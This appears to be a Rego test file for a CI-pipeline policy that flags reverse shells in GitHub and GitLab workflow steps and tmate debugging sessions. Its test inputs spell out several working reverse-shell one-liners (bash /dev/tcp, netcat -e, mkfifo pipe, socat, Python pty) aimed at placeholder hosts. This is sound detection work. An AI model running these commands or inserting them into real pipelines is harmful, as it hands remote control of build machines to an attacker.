# SPDX-License-Identifier: Apache-2.0

package sealock.config.pipeline.reverse_shell_test

import data.sealock.config.pipeline.reverse_shell
import data.sealock.lib.config_github_test as github
import data.sealock.lib.config_gitlab_test as gitlab

# found(document) is where findings are, and the severities that they have of their own.
found(document) := at if {
	at := {concat("/", [sprintf("%v", [p]) | some p in f.path]): object.get(f, "severity", "") | some f in reverse_shell.finding} with input as document
}

runs(text) := found(github.steps([{"run": text}]))

bad := {"jobs/build/steps/0/run": ""}

test_bash if runs("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1") == bad

test_descriptor if runs("exec 5<>/dev/tcp/shell.example.com/443; cat <&5 | while read l; do $l 2>&5 >&5; done") == bad

test_netcat if runs("make\nnc 203.0.113.7 4444 -e /bin/sh") == bad

test_pipe if runs("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f") == bad

test_socat if runs("socat TCP:shell.example.com:443 EXEC:/bin/bash,pty,stderr") == bad

test_python if runs("python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.7\",443));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'") == bad

test_gitlab if found(gitlab.pipeline({"a": {"script": ["nc -e /bin/bash 203.0.113.7 4444"]}})) == {"a/script/0": ""}

test_session if found(github.steps([{"uses": "mxschmitt/action-tmate@v3"}])) == {"jobs/build/steps/0/uses": "high"}

test_session_on_request if found(github.on("workflow_dispatch", [{"uses": "mxschmitt/action-tmate@v3"}])) == {"jobs/build/steps/0/uses": "medium"}

test_port_check_passes if runs("until nc -z db 5432; do sleep 1; done") == {}

test_wait_passes if runs("timeout 30 bash -c 'until echo > /dev/tcp/localhost/5432; do sleep 1; done'") == {}

test_limited_session_passes if found(github.steps([{"uses": "mxschmitt/action-tmate@v3", "with": {"limit-access-to-actor": true}}])) == {}

test_comment_passes if runs("# bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\nmake") == {}
